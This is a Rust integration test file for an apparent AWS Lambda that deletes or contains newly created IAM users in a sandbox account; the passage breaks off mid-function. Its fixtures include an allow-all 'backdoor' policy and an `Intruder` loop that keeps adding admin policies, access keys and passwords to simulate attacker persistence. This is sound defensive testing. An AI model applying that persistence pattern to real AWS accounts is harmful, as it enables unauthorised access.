//! The function `iam-user` from end to end: events built from what the stand-in account answered, the function's own code against it
//! over the wire, and then the account, the calls and the mails.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by panicking, also in its helpers"
)]

use std::num::NonZeroU32;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use aws_sdk_iam::Client;
use aws_sdk_iam::types::StatusType;
use chrono::{DateTime, TimeDelta, Utc};
use iam_user::IamUser;
use rules::Outcome::{Alert, Failed, Reverted};
use rules::iam_user::{CONTAINMENT, DENY_EVERYTHING};
use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
use sandbox::{CERTIFICATE, Fault, StandIn, StandInOptions};
use serde_json::{Value, json};
use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, config_finding, event, expected, publish, refused, unique};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;
use tokio::time::sleep;

const ALLOW_ALL: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
const DENY_S3: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*"}]}"#;
const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
const READ_ONLY: &str = "arn:aws:iam::aws:policy/ReadOnlyAccess";
const QUARANTINE: &str = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3";

// ---------------------------------------------------------------------------------------------------------
// The account and the events

/// A user in a stand-in account, and the function.
struct Scene {
    stage: Stage,
    iam: Client,
    /// The user's name.
    name: String,
}

/// All that can hang on a user.
struct Everything {
    keys: Vec<String>,
    phone: String,
    ssh_key: String,
    certificate: String,
    credential: String,
    groups: Vec<String>,
}

impl Scene {
    async fn new() -> Self {
        Self::of(Stage::new().await)
    }

    fn of(stage: Stage) -> Self {
        let iam = Client::new(&stage.admin);
        Self { stage, iam, name: format!("eve-{}", unique()) }
    }

    /// The same account, and a function with a memory and a mailbox of its own.
    fn process(&self, settings: &[(&str, &str)]) -> Process<IamUser> {
        self.stage.process(IamUser::new, settings)
    }

    /// A process that gets what happens now an hour later: it waits for nothing to become visible.
    fn late_process(&self) -> Process<IamUser> {
        self.stage.process_ahead(IamUser::new, &[], TimeDelta::try_hours(1).unwrap())
    }

    async fn run(&self, event: &Value) -> Ran {
        self.stage.run(&self.process(&[]), event).await
    }

    async fn run_late(&self, event: &Value) -> Ran {
        self.stage.run(&self.late_process(), event).await
    }

    /// Makes the user.
    async fn create_user(&self) -> Value {
        let made = self.iam.create_user().user_name(&self.name).send().await.unwrap().user.unwrap();
        let user = json!({"path": "/", "userName": self.name, "userId": made.user_id, "arn": made.arn,
            "createDate": written(made.create_date.secs())});
        event("iam", "CreateUser", json!({"userName": self.name}), json!({"user": user}))
    }

    async fn create_password(&self) -> Value {
        let call = self.iam.create_login_profile().user_name(&self.name).password("correct horse 1 Battery!");
        let made = call.send().await.unwrap().login_profile.unwrap();
        let date = written(made.create_date.secs());
        let profile = json!({"userName": self.name, "createDate": date, "passwordResetRequired": false});
        let request = json!({"userName": self.name, "passwordResetRequired": false});
        event("iam", "CreateLoginProfile", request, json!({"loginProfile": profile}))
    }

    async fn attach(&self, arn: &str) -> Value {
        self.iam.attach_user_policy().user_name(&self.name).policy_arn(arn).send().await.unwrap();
        event("iam", "AttachUserPolicy", json!({"userName": self.name, "policyArn": arn}), Value::Null)
    }

    async fn put(&self, policy: &str, document: &str) -> Value {
        let call = self.iam.put_user_policy().user_name(&self.name).policy_name(policy);
        call.policy_document(document).send().await.unwrap();
        let request = json!({"userName": self.name, "policyName": policy, "policyDocument": document});
        event("iam", "PutUserPolicy", request, Value::Null)
    }

    async fn create_key(&self) -> String {
        let made = self.iam.create_access_key().user_name(&self.name).send().await.unwrap();
        made.access_key.unwrap().access_key_id
    }

    async fn join_group(&self) -> String {
        let group = format!("group-{}", unique());
        self.iam.create_group().group_name(&group).send().await.unwrap();
        self.iam.add_user_to_group().user_name(&self.name).group_name(&group).send().await.unwrap();
        group
    }

    async fn create_phone(&self) -> String {
        let device = self.iam.create_virtual_mfa_device().virtual_mfa_device_name(format!("phone-{}", unique()));
        let serial = device.send().await.unwrap().virtual_mfa_device.unwrap().serial_number;
        let enable = self.iam.enable_mfa_device().user_name(&self.name).serial_number(&serial);
        enable.authentication_code1("123456").authentication_code2("654321").send().await.unwrap();
        serial
    }

    /// Two keys, a password, a virtual MFA device, an SSH key, a certificate, a service-specific credential, two policies of each
    /// kind, two groups.
    async fn add_everything(&self) -> Everything {
        self.create_password().await;
        self.attach(ADMINISTRATOR).await;
        self.attach(READ_ONLY).await;
        self.put("backdoor", ALLOW_ALL).await;
        self.put("another", DENY_S3).await;
        let (iam, name) = (&self.iam, &self.name);
        let ssh_key =
            iam.upload_ssh_public_key().user_name(name).ssh_public_key_body("ssh-rsa A").send().await.unwrap();
        let certificate = iam.upload_signing_certificate().user_name(name).certificate_body(CERTIFICATE);
        let credential = iam.create_service_specific_credential().user_name(name);
        let credential = credential.service_name("codecommit.amazonaws.com").send().await.unwrap();
        Everything {
            keys: vec![self.create_key().await, self.create_key().await],
            phone: self.create_phone().await,
            ssh_key: ssh_key.ssh_public_key.unwrap().ssh_public_key_id,
            certificate: certificate.send().await.unwrap().certificate.unwrap().certificate_id,
            credential: credential.service_specific_credential.unwrap().service_specific_credential_id,
            groups: vec![self.join_group().await, self.join_group().await],
        }
    }

    /// Deletes the user, who has nothing, as somebody else.
    async fn delete_user(&self) {
        self.iam.delete_user().user_name(&self.name).send().await.unwrap();
    }

    async fn user_id(&self) -> Option<String> {
        let found = self.iam.get_user().user_name(&self.name).send().await;
        match found {
            Ok(found) => found.user.map(|user| user.user_id),
            Err(error) if error.as_service_error().is_some_and(|error| error.is_no_such_entity_exception()) => None,
            Err(error) => panic!("{error:?}"),
        }
    }

    async fn has_password(&self) -> bool {
        self.iam.get_login_profile().user_name(&self.name).send().await.is_ok()
    }

    async fn attached(&self) -> Vec<String> {
        let found = self.iam.list_attached_user_policies().user_name(&self.name).send().await.unwrap();
        found.attached_policies.unwrap_or_default().into_iter().map(|policy| policy.policy_arn.unwrap()).collect()
    }

    async fn inline(&self) -> Vec<String> {
        self.iam.list_user_policies().user_name(&self.name).send().await.unwrap().policy_names
    }

    async fn has_active_key(&self) -> bool {
        let found = self.iam.list_access_keys().user_name(&self.name).send().await.unwrap();
        found.access_key_metadata.iter().any(|key| key.status == Some(StatusType::Active))
    }

    /// Whether the policy that denies everything is on the user, as it was made.
    async fn is_denied(&self) -> bool {
        let found = self.iam.get_user_policy().user_name(&self.name).policy_name(CONTAINMENT).send().await;
        found.is_ok_and(|found| {
            rules::policy::parse(&json!(found.policy_document)) == rules::policy::parse(&json!(DENY_EVERYTHING))
        })
    }

    /// The function's next calls of that action are refused, and not carried out.
    fn deny(&self, action: &str, times: u32) {
        self.fault(action, "AccessDenied", 403, times);
    }

    fn fault(&self, action: &str, code: &str, status: u16, times: u32) {
        self.stage.inject(Fault { status, times, ..Fault::new("", action, code) });
    }

    /// The function's next call of that action waits, and something else happens meanwhile.
    async fn run_with(&self, event: &Value, action: &str, meanwhile: impl AsyncFnOnce()) -> Ran {
        self.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", action, "") });
        let process = self.process(&[]);
        let wait_and_act = async {
            while !self.stage.all_calls().iter().any(|call| call.action == action) {
                sleep(Duration::from_millis(20)).await;
            }
            meanwhile().await;
        };
        tokio::join!(self.stage.run(&process, event), wait_and_act).0
    }

    async fn rename(&self, name: &str) {
        self.iam.update_user().user_name(&self.name).new_user_name(name).send().await.unwrap();
    }

    /// The function's calls on the user, as [`expected`] writes them: `more` are the parameters beside its name.
    fn call(&self, action: &str, more: &[(&str, &str)]) -> String {
        let parameters: Vec<(&str, &str)> = more.iter().copied().chain([("UserName", self.name.as_str())]).collect();
        expected(action, &parameters)
    }

    /// The first round.
    fn look(&self) -> Vec<String> {
        let lists = [
            "GetUser",
            "ListAccessKeys",
            "ListAttachedUserPolicies",
            "ListGroupsForUser",
            "ListMFADevices",
            "ListSSHPublicKeys",
            "ListServiceSpecificCredentials",
            "ListSigningCertificates",
            "ListUserPolicies",
        ];
        lists.iter().map(|action| self.call(action, &[])).collect()
    }

    fn no_password(&self) -> String {
        refused(self.call("GetLoginProfile", &[]), 404)
    }

    fn put_denial(&self) -> String {
        self.call("PutUserPolicy", &[("PolicyName", CONTAINMENT), ("PolicyDocument", DENY_EVERYTHING)])
    }

    fn lift_denial(&self) -> String {
        self.call("DeleteUserPolicy", &[("PolicyName", CONTAINMENT)])
    }

    fn get_user(&self) -> String {
        self.call("GetUser", &[])
    }

    /// All rounds for a user with nothing.
    fn plain_rounds(&self) -> Vec<Vec<String>> {
        vec![
            [self.look(), vec![self.no_password()]].concat(),
            vec![self.put_denial()],
            vec![self.lift_denial(), self.get_user()],
            vec![self.call("DeleteUser", &[])],
            vec![refused(self.get_user(), 404), list_users()],
            vec![publish()],
        ]
    }

    /// All rounds for a user with everything.
    fn rounds(&self, all: &Everything) -> Vec<Vec<String>> {
        let call = |action: &str, name: &str, value: &str| self.call(action, &[(name, value)]);
        let inactive = |key: &String| self.call("UpdateAccessKey", &[("AccessKeyId", key), ("Status", "Inactive")]);
        let contain = [self.put_denial(), self.call("DeleteLoginProfile", &[])];
        let mut tidy: Vec<String> = all.keys.iter().map(|key| call("DeleteAccessKey", "AccessKeyId", key)).collect();
        tidy.push(call("DeactivateMFADevice", "SerialNumber", &all.phone));
        tidy.push(call("DeleteSSHPublicKey", "SSHPublicKeyId", &all.ssh_key));
        tidy.push(call("DeleteSigningCertificate", "CertificateId", &all.certificate));
        tidy.push(call("DeleteServiceSpecificCredential", "ServiceSpecificCredentialId", &all.credential));
        tidy.extend([ADMINISTRATOR, READ_ONLY].map(|arn| call("DetachUserPolicy", "PolicyArn", arn)));
        tidy.extend(["backdoor", "another"].map(|name| call("DeleteUserPolicy", "PolicyName", name)));
        tidy.extend(all.groups.iter().map(|group| call("RemoveUserFromGroup", "GroupName", group)));
        let delete_phone = expected("DeleteVirtualMFADevice", &[("SerialNumber", &all.phone)]);
        vec![
            [self.look(), vec![self.call("GetLoginProfile", &[])]].concat(),
            contain.into_iter().chain(all.keys.iter().map(inactive)).collect(),
            tidy,
            vec![self.lift_denial(), delete_phone, self.get_user()],
            vec![self.call("DeleteUser", &[])],
            vec![refused(self.get_user(), 404), list_users()],
            vec![publish()],
        ]
    }
}

/// The function's look for a user by its id.
fn list_users() -> String {
    expected("ListUsers", &[("MaxItems", "1000")])
}

/// A date as CloudTrail writes it in IAM's answers.
fn written(seconds: i64) -> String {
    DateTime::<Utc>::from_timestamp(seconds, 0).unwrap().format("%b %-d, %Y %-I:%M:%S %p").to_string()
}

/// A time as CloudTrail writes an event's.
fn written_at(time: DateTime<Utc>) -> Value {
    json!(time.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
}

/// The event, with `change` made to it.
fn changed(mut event: Value, pointer: &str, value: Value) -> Value {
    *event.pointer_mut(pointer).unwrap() = value;
    event
}

fn trusting_developer() -> [(&'static str, &'static str); 1] {
    [("TRUSTED_ACTORS", DEVELOPER)]
}

// ---------------------------------------------------------------------------------------------------------
// A user

#[tokio::test]
async fn a_user_goes_with_everything_in_five_rounds() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let all = scene.add_everything().await;
    let ran = scene.run(&event).await;
    ran.is_in_rounds(Violation, &[Reverted], &scene.rounds(&all));
    ran.mail_says(&["new IAM user deleted", &all.keys[0], &all.phone, &all.groups[1], "backdoor", "with access key"]);
    assert_eq!(scene.user_id().await, None);
    let devices = scene.iam.list_virtual_mfa_devices().send().await.unwrap().virtual_mfa_devices;
    assert!(!devices.iter().any(|device| device.serial_number == all.phone), "the device is left");
    for group in &all.groups {
        scene.iam.get_group().group_name(group).send().await.unwrap();
    }
}

/// What arrives is byte for byte what was rendered: [`Stage::run`] compares the two.
#[tokio::test]
async fn a_mail_in_japanese_arrives_and_the_log_stays_english() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let everything = scene.add_everything().await;
    let ran = scene.stage.run(&scene.process(&[("ALERT_LANGUAGE", "ja")]), &event).await;
    assert_eq!((ran.handled.verdict, ran.handled.error.clone()), (Violation, None), "{ran:#?}");
    let mail = ran.mail();
    assert!(mail.subject.starts_with("REVERTED: new IAM user deleted: eve-"), "{mail:?}");
    ran.mail_says(&[
        &format!("CreateUser により、IAM ユーザー {} (", scene.name),
        &format!("  - アクセスキー: {}", everything.keys[0]),
        "  - コンソールパスワード",
        "その後に再確認したところ、ユーザーは存在しませんでした。",
        "【残っている作業】",
    ]);
    let calls: Vec<&str> = mail.body.lines().filter(|line| line.ends_with(" ミリ秒)")).collect();
    assert!(calls.iter().any(|call| call.contains("DeleteUser") && call.contains(": 成功 (")), "{calls:#?}");
    assert!(!calls.iter().any(|call| call.contains(": ok") || call.contains(": there")), "{calls:#?}");
    let report = ran.handled.report.as_ref().unwrap();
    assert!(ran.handled.reason.is_ascii() && report.actions.iter().all(|action| action.is_ascii()), "{report:#?}");
}

#[tokio::test]
async fn a_failure_in_japanese_says_why_and_the_log_stays_english() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.create_password().await;
    scene.deny("DeleteLoginProfile", 10);
    let ran = scene.stage.run(&scene.process(&[("ALERT_LANGUAGE", "ja")]), &event).await;
    ran.mail_says(&[
        "FAILED - ACT NOW: ",
        "【失敗した処理】\n`DeleteLoginProfile` が失敗しました: AccessDenied: ",
        "; 再確認した時点でまだ存在していました\n",
        ": 失敗: AccessDenied: ",
        "コンソールパスワード (IAM ユーザー ",
    ]);
    let error = ran.handled.error.as_ref().unwrap().to_string();
    assert!(error.is_ascii() && error.contains("`DeleteLoginProfile` failed: AccessDenied"), "{error}");
}

#[tokio::test]
async fn a_user_with_nothing_goes() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let ran = scene.run(&event).await;
    ran.is_in_rounds(Violation, &[Reverted], &scene.plain_rounds());
    ran.mail_says(&["nothing hung on it", "LEFT FOR YOU TO DO\nNothing."]);
    assert_eq!(scene.user_id().await, None);
}

#[tokio::test]
async fn a_user_goes_when_lists_have_pages_of_one() {
    let options = StandInOptions { page_size: NonZeroU32::new(1) };
    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
    let scene = Scene::of(Stage::on(&stand_in).await);
    let event = scene.create_user().await;
    let all = scene.add_everything().await;
    let ran = scene.run(&event).await;
    ran.mail_says(&["REVERTED"]);
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None));
    // Further pages come within the first round.
    let told = ran.told();
    let (looks, rest) = told.split_at(10 + 4);
    assert_eq!(looks.iter().filter(|call| call.contains("Marker=")).count(), 4, "{looks:#?}");
    let sorted = |calls: &[String]| {
        let mut calls = calls.to_vec();
        calls.sort();
        calls
    };
    assert_eq!(sorted(rest), sorted(&scene.rounds(&all)[1..].concat()));
}

#[tokio::test]
async fn a_user_that_is_gone_already_is_told_once() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.delete_user().await;
    let process = scene.late_process();
    let reads: Vec<String> =
        [scene.look().into_iter().map(|call| refused(call, 404)).collect(), vec![scene.no_password()]].concat();
    let ran = scene.stage.run(&process, &event).await;
    ran.is_in_rounds(Violation, &[Alert], &[reads.clone(), vec![list_users()], vec![publish()]]);
    ran.mail_says(&["already gone", "Nothing was changed."]);
    let again = scene.stage.run(&process, &event).await;
    again.is_in_rounds(Violation, &[], &[reads, vec![list_users()]]);
    assert!(again.handled.is_told_before);
}

#[tokio::test]
async fn the_same_event_twice() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.add_everything().await;
    let process = scene.process(&[]);
    scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
    // What this process did itself it doesn't look for.
    let again = scene.stage.run(&process, &event).await;
    assert_eq!((again.mails.len(), again.handled.error.clone()), (0, None), "{again:#?}");
    assert!(again.took < Duration::from_secs(5), "{:?}", again.took);
    // Another process finds nothing.
    let other = scene.run_late(&event).await;
    assert_eq!(other.handled.error, None);
    other.mail_says(&["ALERT: new IAM user, already gone"]);
}

#[tokio::test]
async fn a_new_user_is_looked_for_until_it_shows() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.fault("GetUser", "NoSuchEntity", 404, 2);
    scene.fault("ListUsers", "NoSuchEntity", 404, 2);
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None));
    ran.mail_says(&["REVERTED"]);
    assert!(ran.took > Duration::from_millis(1_400), "{:?}", ran.took);
}

#[tokio::test]
async fn a_new_user_that_never_shows_is_given_up() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.delete_user().await;
    let ran = scene.run(&event).await;
    assert_eq!(ran.handled.error, None);
    ran.mail_says(&["ALERT: new IAM user, already gone"]);
    assert!(ran.took > Duration::from_secs(14) && ran.took < Duration::from_secs(25), "{:?}", ran.took);
}

#[tokio::test]
async fn a_later_user_of_the_name_is_left_alone() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.delete_user().await;
    sleep(Duration::from_millis(1_100)).await;
    let later = scene.create_user().await;
    let id = scene.user_id().await;
    scene.create_password().await;
    let ran = scene.run(&event).await;
    let reads = [scene.look(), vec![scene.call("GetLoginProfile", &[])]].concat();
    ran.is_in_rounds(Violation, &[Alert], &[reads, vec![list_users()], vec![publish()]]);
    ran.mail_says(&["already gone, name taken again", "Nothing was changed."]);
    assert!(ran.took < Duration::from_secs(5), "{:?}", ran.took);
    assert_eq!((scene.user_id().await, scene.has_password().await), (id, true));
    // It has its own event.
    scene.run(&later).await.mail_says(&["REVERTED"]);
    assert_eq!(scene.user_id().await, None);
}

#[tokio::test]
async fn an_earlier_user_of_the_name_may_be_a_stale_answer() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let id = scene.user_id().await;
    // As if the event's user were made a little later, and the account showed the one from before.
    let time = (Utc::now() + TimeDelta::try_seconds(20).unwrap()).timestamp();
    let event = changed(event, "/detail/responseElements/user/userId", json!("AIDAQRSTUVWXYZANOTHER"));
    let event = changed(event, "/detail/responseElements/user/createDate", json!(written(time)));
    let ran = scene.run(&event).await;
    ran.mail_says(&["already gone, name taken again", "Nothing was changed."]);
    assert!(ran.took > Duration::from_secs(14), "{:?}", ran.took);
    assert_eq!(scene.user_id().await, id);
}

#[tokio::test]
async fn a_user_without_an_id_is_never_deleted_by_name() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let id = scene.user_id().await;
    let ran = scene.run(&changed(event, "/detail/responseElements", Value::Null)).await;
    ran.is(Violation, &[Alert], &[publish()]);
    assert_eq!(scene.user_id().await, id);
    let ran = scene.run(&tests::event("iam", "CreateUser", Value::Null, Value::Null)).await;
    ran.is(Unreadable, &[Alert], &[publish()]);
}

#[tokio::test]
async fn nothing_is_changed_unless_the_settings_say_so() {
    for (settings, said) in [
        ([("IAM_USER_MODE", "alert")], "IamUserMode is `alert`"),
        ([("ROLLOUT", "observe")], "would have reverted: new IAM user"),
    ] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        let key = scene.create_key().await;
        let ran = scene.stage.run(&scene.process(&settings), &event).await;
        let reads = [scene.look(), vec![scene.no_password()]].concat();
        ran.is_in_rounds(Violation, &[Alert], &[reads, vec![publish()]]);
        ran.mail_says(&[said, "delete the user", &format!("delete access key {key}")]);
        assert!(scene.user_id().await.is_some() && scene.has_active_key().await);
    }
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.stage.run(&scene.process(&[("IAM_USER_MODE", "off")]), &event).await.is(Ignored, &[], &[]);
    scene.stage.run(&scene.process(&trusting_developer()), &event).await.is(Exempt, &[], &[]);
    assert!(scene.user_id().await.is_some());
}

#[tokio::test]
async fn the_mail_is_sent_later_if_sns_fails() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let process = scene.process(&[]);
    scene.fault("Publish", "InternalError", 500, 3);
    let ran = scene.stage.run(&process, &event).await;
    assert!(ran.handled.error.is_some() && ran.mails.is_empty(), "{ran:#?}");
    assert_eq!(scene.user_id().await, None);
    let again = scene.stage.run(&process, &event).await;
    again.is(Resent, &[Reverted], &[publish()]);
}

// ---------------------------------------------------------------------------------------------------------
// A user that does not go easily

/// A refusal that is not needed in the end.
#[tokio::test]
async fn what_could_not_be_shut_off_is_taken_away_all_the_same() {
    for action in ["PutUserPolicy", "UpdateAccessKey"] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.add_everything().await;
        scene.deny(action, 2);
        let ran = scene.run(&event).await;
        assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{action}: {ran:#?}");
        ran.mail_says(&["REVERTED", &format!("{action} {}", scene.name), "FAILED: AccessDenied"]);
    }
}

/// AWS refuses one thing: everything else goes, the user stays shut off, and the next try deletes it.
#[tokio::test]
async fn what_is_refused_keeps_the_user_but_shut_off() {
    for action in [
        "DeleteLoginProfile",
        "DeleteAccessKey",
        "DeactivateMFADevice",
        "DeleteSSHPublicKey",
        "DeleteSigningCertificate",
        "DeleteServiceSpecificCredential",
        "DetachUserPolicy",
        "DeleteUserPolicy",
        "RemoveUserFromGroup",
        "DeleteUser",
    ] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.add_everything().await;
        let process = scene.process(&[]);
        scene.deny(action, 1);
        let ran = scene.stage.run(&process, &event).await;
        assert!(ran.handled.error.is_some(), "{action}: {ran:#?}");
        ran.mail_says(&["CONTAINED", &format!("`{action}` failed: AccessDenied"), "Lambda tries again"]);
        assert!(scene.is_denied().await && !scene.has_password().await && !scene.has_active_key().await, "{action}");
        let again = scene.stage.run(&process, &event).await;
        assert_eq!((again.handled.error.clone(), scene.user_id().await), (None, None), "{action}: {again:#?}");
        again.mail_says(&["REVERTED"]);
    }
}

/// The denial of the first try is taken off by the second, also where that could not put it on again.
#[tokio::test]
async fn a_denial_from_an_earlier_try_goes() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.deny("DeleteUser", 1);
    scene.run(&event).await.mail_says(&["CONTAINED"]);
    assert!(scene.is_denied().await);
    scene.deny("PutUserPolicy", 1);
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    ran.mail_says(&["REVERTED", "FAILED: AccessDenied"]);
}

#[tokio::test]
async fn a_device_that_stays_is_told_and_not_tried_again() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let phone = scene.create_phone().await;
    // It is tried once more when the user is gone.
    scene.deny("DeleteVirtualMFADevice", 2);
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None));
    ran.mail_says(&["CONTAINED", &format!("aws iam delete-virtual-mfa-device --serial-number {phone}")]);
}

#[tokio::test]
async fn a_device_that_aws_takes_for_used_for_a_while_goes() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let phone = scene.create_phone().await;
    scene.fault("DeleteVirtualMFADevice", "DeleteConflict", 409, 1);
    scene.run(&event).await.mail_says(&["REVERTED"]);
    let devices = scene.iam.list_virtual_mfa_devices().send().await.unwrap().virtual_mfa_devices;
    assert!(!devices.iter().any(|device| device.serial_number == phone), "the device is left");
}

#[tokio::test]
async fn without_any_right_to_shut_it_off_it_is_a_failure() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let all = scene.add_everything().await;
    for action in ["PutUserPolicy", "DeleteLoginProfile", "UpdateAccessKey", "DeleteAccessKey"] {
        scene.deny(action, 1_000);
    }
    let ran = scene.run(&event).await;
    assert!(ran.handled.error.is_some());
    let command = format!("aws iam update-access-key --user-name {} --access-key-id {}", scene.name, all.keys[0]);
    ran.mail_says(&["FAILED - ACT NOW", "is NOT on the user", &command, "aws iam delete-login-profile"]);
    // All else is gone.
    assert!(scene.attached().await.is_empty() && scene.inline().await.is_empty());
}

#[tokio::test]
async fn what_can_not_be_read_is_a_failure() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.deny("GetUser", 1);
    let ran = scene.run(&event).await;
    assert!(ran.handled.error.is_some() && scene.user_id().await.is_some());
    ran.mail_says(&["FAILED - ACT NOW: new IAM user could not be read", "nothing was changed"]);
    // A list that can't be read: what can be done is done, and the user shut off.
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.add_everything().await;
    scene.deny("ListGroupsForUser", 1_000);
    let ran = scene.run(&event).await;
    assert!(ran.handled.error.is_some() && scene.is_denied().await && !scene.has_active_key().await);
    ran.mail_says(&["`ListGroupsForUser` failed", "could not be read completely"]);
}

#[tokio::test]
async fn what_aws_will_not_do_yet_is_tried_again() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.add_everything().await;
    scene.fault("DetachUserPolicy", "ConcurrentModification", 409, 2);
    scene.fault("DeleteLoginProfile", "EntityTemporarilyUnmodifiable", 409, 1);
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    ran.mail_says(&["REVERTED", "It took 2 rounds"]);
}

#[tokio::test]
async fn a_lost_answer_to_the_last_call_is_an_alert() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.stage.inject(Fault { after: true, ..Fault::new("", "DeleteUser", "InternalError") });
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    ran.mail_says(&["ALERT: new IAM user deleted", "ended in an error"]);
}

#[tokio::test]
async fn when_the_time_runs_out_the_denial_is_on() {
    for action in ["RemoveUserFromGroup", "DeleteUser"] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.add_everything().await;
        scene.stage.inject(Fault { code: None, times: 2, delay_seconds: 4.5, ..Fault::new("", action, "") });
        let process = scene.process(&[]);
        let ran = scene.stage.run_within(&process, &event, Duration::from_secs(12 + 6)).await;
        assert!(ran.took < Duration::from_secs(8), "{:?}", ran.took);
        if action == "DeleteUser" {
            // The call arrives after all: then there is nobody left to deny anything to, or the denial keeps the user.
            assert!(!ran.mails.is_empty(), "{ran:#?}");
            sleep(Duration::from_secs(2)).await;
            let is_gone = scene.user_id().await.is_none();
            assert!(is_gone || scene.is_denied().await, "{ran:#?}");
            assert!(is_gone || !ran.mail().subject.starts_with("REVERTED"), "{ran:#?}");
        } else {
            assert!(ran.handled.error.is_some() && scene.is_denied().await, "{ran:#?}");
            ran.mail_says(&["CONTAINED", "the time for it ran out", "is on the user: it was read again"]);
        }
        // The next try finds it as it is.
        let again = scene.stage.run(&process, &event).await;
        assert_eq!((again.handled.error.clone(), scene.user_id().await), (None, None), "{again:#?}");
    }
}

// ---------------------------------------------------------------------------------------------------------
// Somebody adds to the user meanwhile

/// Adds keys, policies, groups and passwords to a user every 20 ms.
struct Intruder {
    task: JoinHandle<()>,
    stop: Arc<AtomicBool>,
    /// How many calls succeeded, and how many were refused one after the other in the end.
    added: Arc<AtomicUsize>,
    refused: Arc<AtomicUsize>,
    /// When the last calls began of which one succeeded.
    last: Arc<Mutex<Option<Instant>>>,
}

impl Intruder {
    /// With the user's own keys: the first, and all that it gets.
    async fn with_own_keys(scene: &Scene, key: &str) -> Self {
        Self::start(scene, key).await
    }

    /// With a key that nothing shuts out.
    async fn with_other_keys(scene: &Scene) -> Self {
        Self::start(scene, &format!("AKIAINTRUDER{:08}", unique())).await
    }

    async fn start(scene: &Scene, key: &str) -> Self {
        let (stop, added, refused) =
            (Arc::<AtomicBool>::default(), Arc::<AtomicUsize>::default(), Arc::<AtomicUsize>::default());
        let endpoint = scene.stage.endpoint().to_owned();
        let group = format!("group-{}", unique());
        scene.iam.create_group().group_name(&group).send().await.unwrap();
        let first = key.to_owned();
        let name = scene.name.clone();
        let (is_over, wins, losses) = (Arc::clone(&stop), Arc::clone(&added), Arc::clone(&refused));
        let is_own = !key.contains("INTRUDER");
        let last = Arc::<Mutex<Option<Instant>>>::default();
        let last_success = Arc::clone(&last);
        let task = tokio::spawn(async move {
            let mut keys = vec![Client::new(&sandbox::local_config(&endpoint, &first).await)];
            let mut number = 0;
            while !is_over.load(Ordering::Relaxed) {
                number += 1;
                let began = Instant::now();
                let iam = keys[number % keys.len()].clone();
                let policy = format!("more-{number}");
                let put = iam.put_user_policy().user_name(&name).policy_name(&policy).policy_document(ALLOW_ALL);
                let (key, put, attached, joined, password) = tokio::join!(
                    Box::pin(iam.create_access_key().user_name(&name).send()),
                    Box::pin(put.send()),
                    Box::pin(iam.attach_user_policy().user_name(&name).policy_arn(ADMINISTRATOR).send()),
                    Box::pin(iam.add_user_to_group().user_name(&name).group_name(&group).send()),
                    Box::pin(iam.create_login_profile().user_name(&name).password("correct horse 1 Battery!").send()),
                );
                let succeeded = [key.is_ok(), put.is_ok(), attached.is_ok(), joined.is_ok(), password.is_ok()];
                if let Some(made) = key.ok().and_then(|made| made.access_key).filter(|_| is_own) {
                    keys.push(Client::new(&sandbox::local_config(&endpoint, made.access_key_id()).await));
                }
                let count = succeeded.iter().filter(|succeeded| **succeeded).count();
                wins.fetch_add(count, Ordering::Relaxed);
                match count {
                    0 => losses.fetch_add(1, Ordering::Relaxed),
                    _ => losses.swap(0, Ordering::Relaxed),
                };
                if count > 0 {
                    *last_success.lock().unwrap() = Some(began);
                }
                sleep(Duration::from_millis(20)).await;
            }
        });
        Self { task, stop, added, refused, last }
    }

    async fn stop(self) -> (usize, usize) {
        self.stop.store(true, Ordering::Relaxed);
        self.task.await.unwrap();
